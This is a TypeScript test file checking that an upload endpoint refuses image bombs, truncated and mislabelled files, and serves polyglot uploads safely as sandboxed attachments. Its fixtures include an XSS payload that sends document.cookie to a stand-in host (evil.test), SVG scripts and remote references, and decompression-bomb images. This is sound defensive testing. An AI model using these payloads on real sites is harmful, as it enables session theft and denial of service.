import sharp from "sharp";
import { beforeAll, describe, expect, test } from "vitest";

import { env } from "@/lib/env";
import { raw } from "@/lib/testing/bodies";
import { bombGif, bombPng, bombWebp, plain } from "@/lib/testing/images";
import { keyFor, type Tenant, tenant } from "@/lib/testing/requests";
import { ask } from "@/lib/testing/routes";
import { film } from "@/lib/testing/videos";

const latin = (text: string) => Buffer.from(text, "latin1");
const ZIP = latin("PK\x03\x04\x14\0\0\0\x08\0\xff\xfe");
const SCRIPT = "<script>fetch('//evil.test/'+document.cookie)</script>";
const TEXT = "text/plain; charset=utf-8";
const FRAMES = 20_000;

let one: Tenant;
let key: string;
let inputs: string;
beforeAll(async () => {
  one = await tenant();
  key = await keyFor(one);
  inputs = `/apps/${one.slug}/inputs`;
});

const store = (bytes: Uint8Array | string, type?: string) =>
  ask(inputs, { key, ...raw(bytes, type ? { "content-type": type } : {}) });

async function kept() {
  const { db, appId, vault } = one.ctx;
  const blobs = await Array.fromAsync(vault.blobs.list(`${appId}/`));
  return [await db.input.count({ where: { appId } }), blobs.length];
}

type Made = () => Promise<Uint8Array> | Uint8Array | string;

const svg = (inside: string) =>
  `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${inside}</svg>`;

/** Two files in one: what follows the end of the first is another. */
const followed = async (image: Promise<Buffer>, tail: string | Buffer) =>
  Buffer.concat([await image, Buffer.from(tail)]);

describe("I2: refused, and nothing of it stays:", () => {
  const hostile: [string, Made, string | undefined, number][] = [
    ["nothing at all", () => "", undefined, 400],
    ["a PNG of 400 megapixels in 49 KB", () => bombPng(20_000), undefined, 413],
    ["a PNG of 100 megapixels", () => bombPng(10_000), undefined, 413],
    ["a GIF of too many frames", () => bombGif(2_000, 30), undefined, 413],
    ["a WebP of too many frames", () => bombWebp(3_000, 10), undefined, 413],
    ["a GIF of as many tiny frames", () => bombGif(8, FRAMES), undefined, 413],
    [
      "a PNG that is cut within its header",
      async () => (await plain(9, 9).png().toBuffer()).subarray(0, 20),
      undefined,
      400,
    ],
    ["a GIF that is cut in the middle", () => half("gif"), undefined, 400],
    ["a WebP that is cut in the middle", () => half("webp"), undefined, 400],
    ["a PDF that is also a ZIP", () => pdf(ZIP), undefined, 415],
    [
      "a PDF in letters, longer than what is looked at first, and then a ZIP",
      () => pdf(Buffer.from("1 0 obj\n".repeat(600)), ZIP),
      undefined,
      415,
    ],
    ["a ZIP", () => ZIP, undefined, 415],
    ["a ZIP that says it is an image", () => ZIP, "image/png", 415],
    ["a page that says it is an image", () => SCRIPT, "image/png", 415],
    [
      "a drawing that says it is an image",
      () => svg(SCRIPT),
      "image/svg+xml",
      415,
    ],
    [
      "an image that says it is a video",
      () => plain(9, 9).png().toBuffer(),
      "video/mp4",
      415,
    ],
    [
      "an image that says it is a text",
      () => plain(9, 9).jpeg().toBuffer(),
      "text/html",
      415,
    ],
    [
      "a text of one byte more than may be",
      () => "x".repeat(env().LIMIT_TEXT_BYTES + 1),
      undefined,
      413,
    ],
    [
      "an image of one byte more than may be",
      () => padded(env().LIMIT_IMAGE_BYTES + 1),
      undefined,
      413,
    ],
  ];
  test.each(hostile)("%s", async (_what, made, type, status) => {
    const before = await kept();
    const answer = await store(await made(), type);
    expect(answer.status).toBe(status);
    expect(answer.headers.get("content-type")).toBe("application/problem+json");
    expect(answer.headers.get("sojourn-storage")).toBe("none");
    expect(await kept()).toEqual(before);
  });
});

describe("I2, I3: kept as what it is, byte for byte, and never shown as a page:", () => {
  const gif = () => plain(9, 9).gif().toBuffer();
  const polyglots: [string, Made, string][] = [
    [
      "a GIF that is also a script",
      () => followed(gif(), "*/=1;alert(1)"),
      "image/gif",
    ],
    [
      "a script that begins as a GIF does",
      () => "GIF89a=1;alert(document.cookie)//",
      TEXT,
    ],
    [
      "a PNG with a page behind it",
      () => followed(plain(9, 9).png().toBuffer(), SCRIPT),
      "image/png",
    ],
    [
      "a JPEG with a ZIP behind it",
      () => followed(plain(9, 9).jpeg().toBuffer(), ZIP),
      "image/jpeg",
    ],
    [
      "a JPEG with a page in its comment",
      async () => {
        const jpeg = await plain(9, 9).jpeg().toBuffer();
        const size = Buffer.of(0, SCRIPT.length + 2);
        const comment = [latin("\xff\xfe"), size, Buffer.from(SCRIPT)];
        return Buffer.concat([
          jpeg.subarray(0, 2),
          ...comment,
          jpeg.subarray(2),
        ]);
      },
      "image/jpeg",
    ],
    ["a page", () => `<!doctype html>${SCRIPT}`, TEXT],
    ["a drawing with a script", () => svg(SCRIPT), TEXT],
    [
      "a drawing with a page in it",
      () => svg(`<foreignObject>${SCRIPT}</foreignObject>`),
      TEXT,
    ],
    [
      "a drawing that fetches another",
      () => svg('<use xlink:href="http://evil.test/a.svg#a"/>'),
      TEXT,
    ],
    ["a PDF in letters", () => pdf(Buffer.from("1 0 obj\n")), TEXT],
    [
      "an MP4 that is cut in the middle",
      async () => {
        const video = await film({ format: "mp4" });
        return video.subarray(0, video.length / 2);
      },
      "video/mp4",
    ],
    [
      "a text of just as many bytes as may be",
      () => "x".repeat(env().LIMIT_TEXT_BYTES),
      TEXT,
    ],
    [
      "an image of just as many bytes as may be",
      () => padded(env().LIMIT_IMAGE_BYTES),
      "image/jpeg",
    ],
  ];
  test.each(polyglots)("%s", async (_what, made, type) => {
    const bytes = Buffer.from(await made());
    const stored = await store(bytes);
    expect(stored.status).toBe(200);
    const { id } = await stored.json();
    const answer = await ask(`${inputs}/${id}/content`, { key });
    const got = Buffer.from(await answer.arrayBuffer());
    expect(got.equals(bytes)).toBe(true);
    expect(Object.fromEntries(answer.headers)).toMatchObject({
      "content-type": type,
      "content-disposition": expect.stringMatching(/^attachment; /),
      "content-security-policy": "default-src 'none'; sandbox",
      "x-content-type-options": "nosniff",
      "cross-origin-resource-policy": "same-origin",
      "cache-control": "private, no-store",
    });
  });

  test.each(["png", "jpeg"] as const)(
    "a %s that is cut in the middle, of which no preview is made",
    async (format) => {
      const bytes = await half(format);
      const { id } = await (await store(bytes)).json();
      const answer = await ask(`${inputs}/${id}/content`, { key });
      expect(answer.headers.get("content-type")).toBe(`image/${format}`);
      expect(Buffer.from(await answer.arrayBuffer())).toEqual(bytes);
      const preview = await ask(`${inputs}/${id}/thumbnail`, { key });
      expect(preview.status).toBe(400);
    },
  );

  test("a thumbnail of a polyglot is a picture alone", async () => {
    const bytes = await followed(plain(9, 9).png().toBuffer(), SCRIPT);
    const { id } = await (await store(bytes)).json();
    const answer = await ask(`${inputs}/${id}/thumbnail`, { key });
    const made = Buffer.from(await answer.arrayBuffer());
    expect(answer.headers.get("content-type")).toBe("image/webp");
    expect((await sharp(made).metadata()).format).toBe("webp");
    expect(made.includes("script")).toBe(false);
  });
});

async function half(format: "png" | "jpeg" | "gif" | "webp") {
  const whole = await plain(600, 400).toFormat(format).toBuffer();
  return whole.subarray(0, whole.length / 2);
}

/** What begins as a PDF does, in letters alone. */
const pdf = (...rest: Buffer[]) =>
  Buffer.concat([Buffer.from("%PDF-1.7\n"), ...rest]);

/** A JPEG of so many bytes: what stands behind its end is no part of the picture. */
async function padded(bytes: number): Promise<Buffer> {
  const jpeg = await plain(9, 9).jpeg().toBuffer();
  return Buffer.concat([jpeg, Buffer.alloc(bytes - jpeg.length, 1)]);
}
